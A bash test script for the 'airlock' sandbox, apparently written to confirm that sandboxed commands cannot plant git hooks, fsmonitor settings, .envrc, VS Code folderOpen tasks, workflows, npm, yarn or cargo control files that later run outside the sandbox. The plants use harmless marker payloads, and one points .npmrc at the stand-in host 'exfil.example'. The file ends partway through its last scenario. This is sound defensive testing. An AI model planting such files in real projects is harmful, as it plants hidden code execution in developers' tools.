#!/usr/bin/env bash
# ctest-parts: root nobody
# Between steps (issue #18): a step cannot plant what a later step, a tool or
# the developer will trust. Each scenario is an attack in two steps, as root
# and as uid 65534, with HOME=$FAKE_HOME and the project as the working
# directory:
#   step 1: a sandboxed command (`airlock run --profile P`, P each shipped
#           profile) plants a control file: .git/hooks/pre-commit,
#           core.fsmonitor and core.hooksPath in .git/config, a .git made in
#           a project that had none (a directory, or a `gitdir:` file), .envrc,
#           .vscode/tasks.json, .github/workflows/x.yml, .npmrc, .pnpmfile.cjs,
#           .husky/pre-commit, a .yarn symbolic link to planted releases,
#           .cargo/config.toml; or renames .git or .vscode away to put its own
#           in their place;
#   step 2: the unsandboxed tool it targets, run as the user outside airlock
#           (git commit, git status, npm, node; a small stand-in where the
#           tool itself is not installed: direnv sources .envrc, an editor runs
#           folderOpen tasks, a runner runs workflow steps, yarn runs
#           .yarn/releases/*.cjs, cargo runs build.rustc-wrapper), must not run
#           the planted code.
# Step 1 must fail for the right reason: EROFS for a control file that exists
# (bound read-only), EBUSY for renaming it away, and for one that did not
# exist, exit 122 with the file moved aside to NAME.airlock-refused-XXXXXXXX,
# named on stderr and in the report's result.left_behind. Profiles that do
# not write the project (npm-scripts, node-service) must refuse the write.
#
# Why a pass means something: every plant is first run under a profile that
# removes @project-control (`protect = ["!@project-control"]`, and
# `redact = ["!@project-credentials"]` where airlock has it) and its step 2
# must then run the planted code ("control" checks). A check that could not
# see the attack is reported as a failed control, not as a pass. (Run with
# a ~/.config/airlock/profiles/default.toml that drops protect, every step-1
# refusal and every step-2 check of the writing profiles fails.)
#
# Also: each writing profile can create files at the project's top (else
# the after-run check is never reached); the legitimate half (a build
# writing build/, node_modules, new top-level files, .yarn/cache still exits
# 0 under default and ci-step; a profile that opts out of protecting .git can
# commit); the environment rule (a kept variable holding a URL with any user
# info is dropped unless allow_secrets names it). The last section holds
# variants of the same class: control files below the project's top (a
# new nested repository, src/.envrc, tools/.cargo; an existing nested
# repository read-only), an audit as step 1, a .yarn that existed
# replaced by a link, a rust-toolchain.toml naming a planted toolchain, the
# opt-out the refusal suggests, a project or directory made unwritable or
# unsearchable to hide a plant.
# shellcheck disable=SC2016 # single-quoted scripts are expanded by the sh inside the sandbox
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"

doctor=$(cd "$SCRATCH" && "$AIRLOCK" doctor 2>/dev/null)
grep -q '^ok   user namespaces' <<<"$doctor" || skip "user namespaces are not available"
grep -q '^ok   landlock' <<<"$doctor" || skip "Landlock is not available"

BASE_PATH=/usr/bin:/bin
PY=/usr/bin/python3
NOTES=0
note() { NOTES=$((NOTES + 1)); printf 'note %s\n' "$*"; }
HAVE_AUDIT=0
grep -qw user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null && HAVE_AUDIT=1
HAVE_PIP=0
$PY -c 'import pip' 2>/dev/null && HAVE_PIP=1
HAVE_NPM=0
PATH=$BASE_PATH command -v npm >/dev/null && PATH=$BASE_PATH command -v node >/dev/null && HAVE_NPM=1
# git is what most of this attacks: without it the test fails (a skip is
# only for a missing kernel feature).
if ! PATH=$BASE_PATH command -v git >/dev/null; then
  fail "git is not installed in $BASE_PATH"
  finish
fi

# Shipped profiles that write the project, and the three that do not.
WRITERS=(default ci-step make-build npm-build npm-test npm-ci pip-install)
READONLY=(npm-scripts npm-install-script node-service)
# default runs once per plant (exit 122 attributed to that plant alone);
# the others, which inherit its protect list, once per batch of plants (see
# BATCHES_*; each plant still checked on its own: its error, its left_behind
# entry, its moved-aside name, its step 2), to keep the test fast.
declare -A MODE=([default]=each [ci-step]=together [make-build]=together [npm-build]=together
                 [npm-test]=together [npm-ci]=together [pip-install]=together [npm-scripts]=together [npm-install-script]=together
                 [node-service]=together)

expect_true() {
  local what=$1
  shift
  if "$@"; then pass "$what"; else fail "$what"; fi
}
expect_rc() {
  if [[ $RC == "$2" ]]; then pass "$1"; else fail "$1: expected exit $2, got $RC; stderr: $ERR"; fi
}
own() { [[ $WHO == root ]] || chown -R "$NOBODY:$NOBODY" "$@"; }

# al [NAME=VALUE...] -- ARGS...: `airlock ARGS` as $WHO in $PROJECT with
# HOME=$FAKE_HOME, PATH=$BASE_PATH and nothing else of this shell's
# environment. Sets RC, OUT, ERR; the report (when asked for) is $REPORT.
al() {
  local vars=()
  while [[ $1 != -- ]]; do vars+=("$1"); shift; done
  rm -f "$REPORT"
  as_step 60 "$PROJECT" "${vars[@]}" -- "$AIRLOCK" "${@:2}"
  read_left_behind
}

# outside CMD...: step 2, the developer's own tool: as $WHO in $PROJECT (or
# in $IN when set), not sandboxed. git looks no higher than the user's
# scratch directory.
outside() {
  (cd "${IN:-$PROJECT}" && as_user "$WHO" timeout -k 5 60 env -i HOME="$FAKE_HOME" PATH="$BASE_PATH" LANG=C.UTF-8 \
     GIT_CEILING_DIRECTORIES="$SCRATCH/$WHO" GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=init.defaultBranch \
     GIT_CONFIG_VALUE_0=main GIT_AUTHOR_NAME=dev GIT_AUTHOR_EMAIL=dev@example.invalid \
     GIT_COMMITTER_NAME=dev GIT_COMMITTER_EMAIL=dev@example.invalid "$@") </dev/null
}

# LEFT: the last report's result.left_behind, one "path<TAB>moved_to<TAB>error"
# a line (read by al after every run).
read_left_behind() {
  LEFT=""
  [[ -f $REPORT ]] || return 0
  grep -q '"left_behind": \[\]' "$REPORT" && return 0
  LEFT=$($PY -c 'import json, sys
for e in json.load(open(sys.argv[1]))["result"]["left_behind"]:
    print("%s\t%s\t%s" % (e.get("path"), e.get("moved_to"), e.get("error")))' "$REPORT" 2>&1)
}
left_behind() { printf '%s' "$LEFT"; }
# moved_to PATH: where the report says PATH was moved ("" when not listed).
moved_to() { left_behind | awk -F '\t' -v p="$1" '$1 == p { print $2; exit }'; }
# listed_under PATH: report entries for PATH or beneath it.
listed_under() { left_behind | awk -F '\t' -v p="$1" '$1 == p || index($1, p "/") == 1'; }
tree() { (cd "$1" && find . | LC_ALL=C sort); }

# --- the plants -----------------------------------------------------------
# Each is a sh script run in the project with $1 = the markers directory;
# planted code touches $1/<plant> when a tool runs it. PLANT_PATH: the
# top-level control file it leaves; PLANT_STEP2: the tool it targets.
declare -A PLANT_SCRIPT PLANT_PATH PLANT_STEP2
HOOK='printf "#!/bin/sh\ntouch %s/%s\n"'
PLANT_SCRIPT[hook]='[ -e .git ] || git init -q . || exit 1
mkdir -p .git/hooks && '"$HOOK"' "$1" hook > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit'
PLANT_SCRIPT[fsmonitor]='[ -e .git ] || git init -q . || exit 1
git config core.fsmonitor "touch $1/fsmonitor; false"'
PLANT_SCRIPT[hookspath]='[ -e .git ] || git init -q . || exit 1
mkdir -p planted-hooks && '"$HOOK"' "$1" hookspath > planted-hooks/pre-commit && chmod 755 planted-hooks/pre-commit &&
git config core.hooksPath planted-hooks'
PLANT_SCRIPT[gitfile]='git init -q --bare elsewhere.git && git --git-dir=elsewhere.git config core.bare false &&
git --git-dir=elsewhere.git config core.fsmonitor "touch $1/gitfile; false" && printf "gitdir: %s/elsewhere.git\n" "$PWD" > .git'
PLANT_SCRIPT[envrc]='printf "touch %s/envrc\n" "$1" > .envrc'
PLANT_SCRIPT[vscode]='mkdir -p .vscode && printf "{\"version\": \"2.0.0\", \"tasks\": [{\"label\": \"x\", \"type\": \"shell\", \"command\": \"touch %s/vscode\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n" "$1" > .vscode/tasks.json'
PLANT_SCRIPT[github]='mkdir -p .github/workflows && printf "on: push\njobs:\n  x:\n    runs-on: self-hosted\n    steps:\n      - run: touch %s/github\n" "$1" > .github/workflows/x.yml'
PLANT_SCRIPT[npmrc]='printf "registry=http://exfil.example/\n" > .npmrc'
PLANT_SCRIPT[pnpmfile]='printf "require(\"fs\").writeFileSync(\"%s/pnpmfile\", \"ran\\\\n\");\nmodule.exports = {};\n" "$1" > .pnpmfile.cjs'
PLANT_SCRIPT[husky]='mkdir -p .husky && '"$HOOK"' "$1" husky > .husky/pre-commit && chmod 755 .husky/pre-commit'
PLANT_SCRIPT[yarn]='mkdir -p elsewhere/releases &&
printf "require(\"fs\").writeFileSync(\"%s/yarn\", \"ran\\\\n\");\n" "$1" > elsewhere/releases/yarn-9.9.9.cjs && ln -s elsewhere .yarn'
PLANT_SCRIPT[cargo]='mkdir -p tools .cargo && '"$HOOK"' "$1" cargo > tools/rustc-wrapper && chmod 755 tools/rustc-wrapper &&
printf "[build]\nrustc-wrapper = \"%s/tools/rustc-wrapper\"\n" "$PWD" > .cargo/config.toml'
PLANT_SCRIPT[rename-git]='mv .git .git-away && git init -q . && git config core.fsmonitor "touch $1/rename-git; false"'
PLANT_SCRIPT[rename-vscode]='mv .vscode .vscode-away && mkdir .vscode &&
printf "{\"tasks\": [{\"command\": \"touch %s/rename-vscode\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n" "$1" > .vscode/tasks.json'
PLANT_PATH=([hook]=.git [fsmonitor]=.git [hookspath]=.git [gitfile]=.git [envrc]=.envrc [vscode]=.vscode
            [github]=.github [npmrc]=.npmrc [pnpmfile]=.pnpmfile.cjs [husky]=.husky [yarn]=.yarn [cargo]=.cargo
            [rename-git]=.git [rename-vscode]=.vscode)
PLANT_STEP2=([hook]=s2_commit [fsmonitor]=s2_status [hookspath]=s2_commit [gitfile]=s2_status [envrc]=s2_direnv
             [vscode]=s2_editor [github]=s2_runner [npmrc]=s2_npm [pnpmfile]=s2_pnpm [husky]=s2_husky
             [yarn]=s2_yarn [cargo]=s2_cargo [rename-git]=s2_status [rename-vscode]=s2_editor)
PLANTS_GIT=(hook fsmonitor hookspath envrc vscode github npmrc pnpmfile husky yarn cargo rename-git rename-vscode)
PLANTS_PLAIN=(hook fsmonitor hookspath gitfile envrc vscode github npmrc pnpmfile husky yarn cargo)
# Plants run together under one profile, in batches whose attacks do not
# mask each other (core.hooksPath would replace .git/hooks; renaming .git
# away takes the other .git plants with it; a .git file needs no .git).
BATCHES_GIT=("hook fsmonitor envrc vscode github npmrc pnpmfile husky yarn cargo" "hookspath rename-vscode"
             "rename-git")
BATCHES_PLAIN=("hook fsmonitor envrc vscode github npmrc pnpmfile husky yarn cargo" "hookspath" "gitfile")
[[ $HAVE_NPM == 1 ]] || note "npm or node is not installed: the .npmrc, .pnpmfile.cjs and .yarn step 2 use file checks"

# --- step 2: the tools -----------------------------------------------------
# Each runs the tool as the developer would; S2RC is its exit status. The
# planted code shows itself by its marker.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_commit() { outside sh -c '[ -e .git ] || git init -q; git commit -q --allow-empty -m step2' >/dev/null 2>&1; S2RC=$?; }
# A project that uses husky has core.hooksPath = .husky.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_husky() { outside sh -c '[ -e .git ] || git init -q; git -c core.hooksPath=.husky commit -q --allow-empty -m step2' >/dev/null 2>&1; S2RC=$?; }
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_status() { outside sh -c '[ -e .git ] || git init -q; git status --porcelain' >/dev/null 2>&1; S2RC=$?; }
# direnv sources .envrc (after `direnv allow`, which the developer gives a file they think is theirs).
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_direnv() { outside sh -c 'if [ -f .envrc ]; then . ./.envrc; fi' >/dev/null 2>&1; S2RC=$?; }
# An editor opening the folder runs its folderOpen tasks.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_editor() {
  outside "$PY" -c 'import json, os, subprocess
if os.path.isfile(".vscode/tasks.json"):
    for t in json.load(open(".vscode/tasks.json")).get("tasks", []):
        if t.get("runOptions", {}).get("runOn") == "folderOpen":
            subprocess.run(t["command"], shell=True)' >/dev/null 2>&1
  S2RC=$?
}
# A self-hosted runner runs the workflow's steps.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_runner() {
  outside sh -c 'for f in .github/workflows/*.yml; do [ -f "$f" ] && sed -n "s/^ *- run: //p" "$f" | sh; done; true' >/dev/null 2>&1
  S2RC=$?
}
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_npm() {
  local got
  if [[ $HAVE_NPM == 1 ]]; then
    got=$(outside npm config get registry 2>/dev/null)
  else
    got=$(cat "$PROJECT/.npmrc" 2>/dev/null)
  fi
  S2RC=$?
  [[ $got != *exfil.example* ]] || touch "$MARKS/npmrc"
}
# pnpm requires .pnpmfile.cjs.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_pnpm() {
  if [[ $HAVE_NPM == 1 ]]; then
    outside node -e 'const f = process.cwd() + "/.pnpmfile.cjs"; if (require("fs").existsSync(f)) require(f);' >/dev/null 2>&1
  else
    [[ ! -f $PROJECT/.pnpmfile.cjs ]] || touch "$MARKS/pnpmfile"
  fi
  S2RC=$?
}
# yarn runs the release a yarnPath names, from .yarn/releases.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_yarn() {
  if [[ $HAVE_NPM == 1 ]]; then
    outside sh -c 'for f in .yarn/releases/*.cjs; do [ -f "$f" ] && node "$f"; done; true' >/dev/null 2>&1
  else
    compgen -G "$PROJECT/.yarn/releases/*.cjs" >/dev/null && touch "$MARKS/yarn"
  fi
  S2RC=$?
}
# cargo runs build.rustc-wrapper from .cargo/config.toml.
# shellcheck disable=SC2317 # called through PLANT_STEP2
s2_cargo() {
  outside sh -c 'w=$(sed -n "s/^rustc-wrapper = \"\(.*\)\"$/\1/p" .cargo/config.toml 2>/dev/null); [ -z "$w" ] || "$w" rustc -vV; true' >/dev/null 2>&1
  S2RC=$?
}

# --- the projects ----------------------------------------------------------
# tpl-git: a checkout (git init, a commit; .vscode and .github exist);
# tpl-plain: the same files and no .git. Both have node_modules and data, so
# that npm-scripts and node-service can start.
make_templates() {
  local plain="$SCRATCH/$WHO/tpl-plain" git="$SCRATCH/$WHO/tpl-git"
  rm -rf "$plain" "$git"
  mkdir -p "$plain/src" "$plain/node_modules" "$plain/data"
  echo 'int main(void) { return 0; }' > "$plain/src/main.c"
  printf 'build/main.o: src/main.c\n\tmkdir -p build\n\tcc -c -o build/main.o src/main.c\n' > "$plain/Makefile"
  cp -a "$plain" "$git"
  mkdir -p "$git/.vscode" "$git/.github"
  echo '{"editor.tabSize": 2}' > "$git/.vscode/settings.json"
  echo '* @dev' > "$git/.github/CODEOWNERS"
  own "$plain" "$git"
  IN=$git outside sh -c 'git init -q && git add src Makefile .vscode .github && git commit -q -m init' ||
    fail "$WHO: could not make the git checkout"
  TPL_HEAD=$(IN=$git outside git rev-parse HEAD)
}
# fresh KIND: $PROJECT is a new copy of the KIND template; markers cleared.
fresh() {
  KIND=$1
  [[ -e $PROJECT ]] && chmod -R u+rwX "$PROJECT" 2>/dev/null
  rm -rf "$PROJECT"
  cp -a "$SCRATCH/$WHO/tpl-$KIND" "$PROJECT"
  rm -rf "${MARKS:?}"/* 2>/dev/null
}

# run_plants PROFILE PLANT...: step 1, one run with each PLANT in turn; each
# prints "PLANT name rc=N <its stderr on one line>". The wrapper exits 0, so
# RC is airlock's own verdict.
run_plants() {
  local profile=$1 p args=()
  shift
  for p in "$@"; do args+=("$p" "${PLANT_SCRIPT[$p]}"); done
  al -- -q run --profile "$profile" --report "$REPORT" -- sh -c '
    m=$1; shift
    while [ $# -gt 0 ]; do
      o=$(sh -c "$2" plant "$m" 2>&1); r=$?
      printf "PLANT %s rc=%s %s\n" "$1" "$r" "$(printf %s "$o" | tr "\n" " ")"
      shift 2
    done' wrapper "$MARKS" "${args[@]}"
}
plant_rc() { sed -n "s/^PLANT $1 rc=\([0-9]*\).*/\1/p" <<<"$OUT"; }
plant_err() { sed -n "s/^PLANT $1 rc=[0-9]* //p" <<<"$OUT"; }

# expectation PROFILE PLANT: new (exit 122, moved aside), rofs (EROFS: it
# exists, bound read-only), busy (EBUSY: renaming it away), denied (the
# profile does not write the project).
expectation() {
  local profile=$1 plant=$2 exp=new
  [[ " ${READONLY[*]} " == *" $profile "* ]] && { echo denied; return; }
  if [[ $KIND == git ]]; then
    case $plant in
      hook|fsmonitor|hookspath|vscode|github) exp=rofs ;;
      rename-*) exp=busy ;;
    esac
  fi
  # A writer that cannot create anything at the project's top (a failed
  # check of its own in scenario_create): its plants must still be refused.
  [[ -n ${NO_CREATE[$profile]:-} ]] && exp=denied
  echo "$exp"
}

# check_plant PROFILE PLANT SINGLE: what step 1 did, checked after
# run_plants (SINGLE=1: the run had only this plant, so its exit status is
# this plant's).
check_plant() {
  local profile=$1 plant=$2 single=$3
  local what="$WHO $KIND $profile: $plant" prc perr path moved listed exp
  prc=$(plant_rc "$plant")
  perr=$(plant_err "$plant")
  path="$PROJECT/${PLANT_PATH[$plant]}"
  exp=$(expectation "$profile" "$plant")
  case $exp in
    new)
      expect_eq "$what: the plant itself succeeded inside (only the after-run check stops it)" 0 "$prc"
      [[ $single == 1 ]] && expect_rc "$what: airlock exits 122 although the command exited 0" 122
      [[ $single == 1 ]] || expect_rc "$what: airlock exits 122" 122
      moved=$(moved_to "$path")
      if [[ $moved =~ ^"$path.airlock-refused-"[0-9a-f]{8}$ ]]; then
        pass "$what: the report lists ${PLANT_PATH[$plant]} in result.left_behind, moved to ${moved##*/}"
      else
        fail "$what: no left_behind entry moving $path to $path.airlock-refused-XXXXXXXX: $(left_behind | tr '\n' ' ')"
      fi
      expect_contains "$what: stderr names it" "$ERR" "the command created $path,"
      [[ -n $moved ]] && expect_contains "$what: stderr says where it was moved" "$ERR" "moved aside to $moved."
      expect_true "$what: ${PLANT_PATH[$plant]} is no longer there" test ! -e "$path" -a ! -L "$path"
      expect_true "$what: ls shows the moved-aside name" \
        grep -qxE "${PLANT_PATH[$plant]//./\\.}\.airlock-refused-[0-9a-f]{8}" <<<"$(ls -A "$PROJECT")"
      if [[ $plant == yarn ]]; then
        expect_true "$what: the link itself was moved aside, not followed" test -L "$moved"
        expect_true "$what: the link's target was left where it was" test -f "$PROJECT/elsewhere/releases/yarn-9.9.9.cjs"
      fi
      ;;
    rofs|busy|denied)
      local errno="Read-only file system" suffix=""
      [[ $exp == denied ]] && suffix=" or EACCES (the profile does not write the project)"
      [[ $exp == busy ]] && errno="Device or resource busy"
      if [[ $prc != 0 && -n $prc ]] && { [[ $perr == *"$errno"* ]] ||
           { [[ $exp == denied ]] && [[ $perr == *"Permission denied"* || $perr == *"resource busy"* ]]; }; }; then
        pass "$what: the plant failed with $errno${suffix}"
      else
        fail "$what: the plant did not fail with $errno: rc=$prc: $perr"
      fi
      listed=$(listed_under "$path")
      expect_eq "$what: nothing about it in left_behind" "" "$listed"
      [[ $single == 1 ]] && expect_rc "$what: the run exits 0 (nothing was left behind)" 0
      if [[ $exp == busy ]]; then
        expect_true "$what: ${PLANT_PATH[$plant]} was not renamed away" test ! -e "$path-away"
      fi
      ;;
  esac
}

# step2 PLANT: the tool PLANT targets, run by the developer afterwards.
step2() {
  local plant=$1 what="$WHO $KIND $2: $1"
  "${PLANT_STEP2[$plant]}"
  expect_true "$what: step 2 (${PLANT_STEP2[$plant]#s2_}) did not run the planted code" test ! -e "$MARKS/$plant"
  if [[ $KIND == git && ${PLANT_STEP2[$plant]} == s2_commit ]]; then
    expect_eq "$what: step 2: git commit still works" 0 "$S2RC"
  fi
  if [[ $KIND == git && $plant == rename-git ]]; then
    expect_true "$what: .git is still the checkout" outside git merge-base --is-ancestor "$TPL_HEAD" HEAD
  fi
}

# control PLANT: under a profile without @project-control the plant works
# and step 2 runs the planted code: the checks above can see the attack.
control() {
  local plant=$1 what="$WHO $KIND control (protection removed): $1"
  fresh "$KIND"
  run_plants "$SCRATCH/$WHO/unprotected.toml" "$plant"
  if [[ $(plant_rc "$plant") == 0 && $RC == 0 ]]; then
    pass "$what: planted"
  else
    fail "$what: could not even plant it unprotected (rc=$(plant_rc "$plant"), exit $RC): $(plant_err "$plant") $ERR"
  fi
  "${PLANT_STEP2[$plant]}"
  if [[ -e $MARKS/$plant ]]; then
    pass "$what: step 2 (${PLANT_STEP2[$plant]#s2_}) runs the planted code, so its check above is meaningful"
  else
    fail "$what: step 2 (${PLANT_STEP2[$plant]#s2_}) did not run it even unprotected: that check proves nothing"
  fi
}

write_profiles() {
  # The control profile also shows .git/config and .npmrc as they are
  # (filesystem.redact, where this airlock has it: a bound copy cannot be
  # written either, and the control must be able to plant).
  cat > "$SCRATCH/$WHO/unprotected.toml" <<'EOF'
[profile]
description = "test control: default without @project-control"
extends = ["default"]

[filesystem]
protect = ["!@project-control"]
redact = ["!@project-credentials"]
EOF
  chmod 644 "$SCRATCH/$WHO/unprotected.toml"
  if ! (cd / && "$AIRLOCK" check "$SCRATCH/$WHO/unprotected.toml") >/dev/null 2>&1; then
    sed -i '/^redact = /d' "$SCRATCH/$WHO/unprotected.toml"
  fi
  cat > "$SCRATCH/$WHO/release.toml" <<'EOF'
[profile]
description = "a release step that commits: default, with .git writable"
extends = ["default"]

[filesystem]
protect = ["!?${project}/.git"]
EOF
  cat > "$SCRATCH/$WHO/pip-secret.toml" <<EOF
[profile]
description = "pip-install with a private index's credentials"
extends = ["$ENV_BASE"]

[environment]
allow_secrets = ["PIP_INDEX_URL"]
EOF
  cat > "$SCRATCH/$WHO/pip-keep.toml" <<'EOF'
[profile]
description = "default keeping PIP_* (pip-install needs pip on the host)"
extends = ["default"]

[environment]
keep = ["PIP_*"]
EOF
  chmod 644 "$SCRATCH/$WHO"/*.toml
  own "$SCRATCH/$WHO"/*.toml
}

# --- 1. plant each vector under each profile ------------------------------------
scenario_plants() {
  local kind profile plant plants batch batches together
  for kind in git plain; do
    KIND=$kind
    if [[ $kind == git ]]; then
      plants=("${PLANTS_GIT[@]}") batches=("${BATCHES_GIT[@]}")
    else
      plants=("${PLANTS_PLAIN[@]}") batches=("${BATCHES_PLAIN[@]}")
    fi
    for plant in "${plants[@]}"; do control "$plant"; done
    for profile in "${WRITERS[@]}" "${READONLY[@]}"; do
      if [[ $profile == pip-install && $HAVE_PIP == 0 ]]; then
        note "$WHO: python3 has no pip: pip-install cannot resolve @pip-indexes; not tried"
        continue
      fi
      if [[ $profile == npm-ci && $HAVE_NPM == 0 ]]; then
        note "$WHO: npm is not installed: npm-ci cannot resolve @npm-registries; not tried"
        continue
      fi
      if [[ ${MODE[$profile]} == each ]]; then
        for plant in "${plants[@]}"; do
          fresh "$kind"
          run_plants "$profile" "$plant"
          [[ $RC == 125 ]] && fail "$WHO $kind $profile: airlock refused to run: $ERR"
          check_plant "$profile" "$plant" 1
          step2 "$plant" "$profile"
        done
        continue
      fi
      for batch in "${batches[@]}"; do
        read -ra together <<<"$batch"
        fresh "$kind"
        run_plants "$profile" "${together[@]}"
        [[ $RC == 125 ]] && fail "$WHO $kind $profile: airlock refused to run: $ERR"
        if [[ " ${READONLY[*]} " == *" $profile "* ]]; then
          expect_rc "$WHO $kind $profile: nothing was left behind (exit 0)" 0
          if [[ $(tree "$SCRATCH/$WHO/tpl-$kind") == "$(tree "$PROJECT")" ]]; then
            pass "$WHO $kind $profile: the project is unchanged"
          else
            fail "$WHO $kind $profile: the project changed: $(diff <(tree "$SCRATCH/$WHO/tpl-$kind") <(tree "$PROJECT") | tr '\n' ' ')"
          fi
        fi
        # Everything step 1 did first, then the developer's tools.
        for plant in "${together[@]}"; do check_plant "$profile" "$plant" 0; done
        for plant in "${together[@]}"; do step2 "$plant" "$profile"; done
      done
    done
  done
}

# --- 0. every profile that writes the project can create in it -----------------
# A step under each writer creates a file and a directory (a venv, build/)
# at the project's top; without that the after-run check is never reached
# and the plants below are checked as refused writes instead.
declare -A NO_CREATE
scenario_create() {
  local profile
  NO_CREATE=()
  KIND=git
  for profile in "${WRITERS[@]}"; do
    [[ $profile == pip-install && $HAVE_PIP == 0 ]] && continue
    [[ $profile == npm-ci && $HAVE_NPM == 0 ]] && continue
    fresh git
    al -- -q run --profile "$profile" --report "$REPORT" -- sh -c 'echo x > new-file && mkdir venv && echo x > venv/f'
    if [[ $RC == 0 && -s $PROJECT/new-file && -s $PROJECT/venv/f ]]; then
      pass "$WHO git $profile: a step creates new-file and venv/ at the project's top"
    else
      NO_CREATE[$profile]=1
      fail "$WHO git $profile: a step cannot create new-file or venv/ at the project's top (exit $RC): $ERR"
    fi
  done
}

# --- 2. the legitimate half ----------------------------------------------------
scenario_legit() {
  local kind profile what
  for kind in git plain; do
    for profile in default ci-step; do
      what="$WHO $kind $profile: a normal build step"
      fresh "$kind"
      rm -rf "$PROJECT/node_modules" "$PROJECT/data"
      al -- -q run --profile "$profile" --report "$REPORT" -- sh -c '
        make -s && mkdir node_modules && echo "{}" > node_modules/.package-lock.json &&
        echo built > dist.txt && printf "build/\n" > .gitignore && echo x > .eslintcache &&
        mkdir -p .yarn/cache && echo z > .yarn/cache/pkg.zip &&
        if [ -d .git ]; then git log -1 --format=subject=%s && cat .vscode/settings.json; fi'
      expect_rc "$what exits 0" 0
      expect_eq "$what: nothing in left_behind" "" "$(left_behind)"
      expect_not_contains "$what: no refusal on stderr" "$ERR" "the command created"
      expect_true "$what: make wrote build/main.o" test -s "$PROJECT/build/main.o"
      expect_true "$what: node_modules, dist.txt, .gitignore, .eslintcache and .yarn/cache were written" \
        test -s "$PROJECT/node_modules/.package-lock.json" -a -s "$PROJECT/dist.txt" -a -s "$PROJECT/.gitignore" \
        -a -s "$PROJECT/.eslintcache" -a -s "$PROJECT/.yarn/cache/pkg.zip"
      if [[ $kind == git ]]; then
        expect_contains "$what: git and .vscode are readable inside" "$OUT" "subject=init"
        IN=$PROJECT outside sh -c 'git add -A && git commit -q -m build'
        expect_eq "$what: afterwards the developer's git add and commit work" 0 $?
      fi
    done
  done

  # A release step that must commit says so; the rest stays protected.
  KIND=git
  fresh git
  what="$WHO git release.toml (protect = [\"!?\${project}/.git\"])"
  al -- -q run --profile default --report "$REPORT" -- git -c user.name=rel -c user.email=rel@example.invalid \
    commit -q --allow-empty -m release-step
  if [[ $RC != 0 && $ERR == *"Read-only file system"* ]]; then
    pass "$WHO git default: git commit inside fails with EROFS (what the opt-out below changes)"
  else
    fail "$WHO git default: git commit inside: exit $RC: $ERR"
  fi
  al -- -q run --profile "$SCRATCH/$WHO/release.toml" --report "$REPORT" -- \
    git -c user.name=rel -c user.email=rel@example.invalid commit -q --allow-empty -m release-step
  expect_rc "$what: git commit inside exits 0" 0
  expect_eq "$what: the commit is in the checkout" "release-step" "$(outside git log -1 --format=%s 2>&1)"
  expect_eq "$what: nothing in left_behind" "" "$(left_behind)"
  al -- -q run --profile "$SCRATCH/$WHO/release.toml" --report "$REPORT" -- sh -c \
    'echo "touch /nonexistent" > .envrc; echo x > .vscode/tasks.json'
  expect_rc "$what: a new .envrc is still refused" 122
  expect_true "$what: .envrc moved aside" test -n "$(moved_to "$PROJECT/.envrc")" -a ! -e "$PROJECT/.envrc"
  expect_contains "$what: .vscode is still read-only" "$ERR" "Read-only file system"
  KIND=plain
  fresh plain
  what="$WHO plain release.toml"
  al -- -q run --profile "$SCRATCH/$WHO/release.toml" --report "$REPORT" -- sh -c \
    'git init -q && git -c user.name=rel -c user.email=rel@example.invalid commit -q --allow-empty -m first'
  expect_rc "$what: git init and commit inside exit 0" 0
  expect_eq "$what: .git stays (not moved aside)" "first" "$(outside git log -1 --format=%s 2>&1)"
}

# --- 3. a URL with user info in a kept variable is a credential ------------------
scenario_env() {
  KIND=git
  fresh git
  local token form value what
  token="tok$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
  what="$WHO env ($ENV_BASE_NAME)"
  al PIP_INDEX_URL=https://127.0.0.1:1/simple -- -q run --profile "$ENV_BASE" --report "$REPORT" -- env
  expect_contains "$what: control: PIP_INDEX_URL without user info is kept" "$OUT" "PIP_INDEX_URL=https://127.0.0.1:1/simple"
  for form in "$token@" "$token:@" "user:$token@"; do
    value="https://${form}127.0.0.1:1/simple"
    al PIP_INDEX_URL="$value" -- -q run --profile "$ENV_BASE" --report "$REPORT" -- env
    expect_rc "$what: PIP_INDEX_URL=https://${form/$token/TOKEN}host: runs" 0
    expect_not_contains "$what: https://${form/$token/TOKEN}host: the token is not in the environment" "$OUT" "$token"
    expect_not_contains "$what: https://${form/$token/TOKEN}host: PIP_INDEX_URL is dropped" "$OUT" "PIP_INDEX_URL="
    expect_not_contains "$what: https://${form/$token/TOKEN}host: the token is not on stderr" "$ERR" "$token"
    expect_eq "$what: https://${form/$token/TOKEN}host: the report names it, with the reason, not the value" \
      "PIP_INDEX_URL: value looks like a URL with embedded credentials" \
      "$($PY -c 'import json, sys
for d in json.load(open(sys.argv[1]))["environment"]["dropped"]:
    if d["name"] == "PIP_INDEX_URL": print(d["name"] + ": " + d["reason"])' "$REPORT" 2>&1)"
    expect_true "$what: https://${form/$token/TOKEN}host: the token is not in the report" \
      bash -c '! grep -q "$1" "$2"' _ "$token" "$REPORT"
  done
  al PIP_EXTRA_INDEX_URL="https://127.0.0.1:1/simple https://$token@127.0.0.1:2/simple" -- \
    -q run --profile "$ENV_BASE" -- env
  expect_not_contains "$what: a second URL with a token in PIP_EXTRA_INDEX_URL: dropped" "$OUT" "$token"
  for form in "$token@" "user:$token@"; do
    value="https://${form}127.0.0.1:1/simple"
    al PIP_INDEX_URL="$value" -- -q run --profile "$SCRATCH/$WHO/pip-secret.toml" -- env
    expect_contains "$what + allow_secrets = [\"PIP_INDEX_URL\"]: https://${form/$token/TOKEN}host is passed" \
      "$OUT" "PIP_INDEX_URL=$value"
  done
}

# --- 4. variants of the class ----------------------------------------------------
scenario_variants() {
  local what moved profile path
  # A .yarn that existed (a checked-in cache) replaced by a link to planted
  # releases: the link is on the way to .yarn/releases.
  KIND=plain
  fresh plain
  mkdir -p "$PROJECT/.yarn/cache"
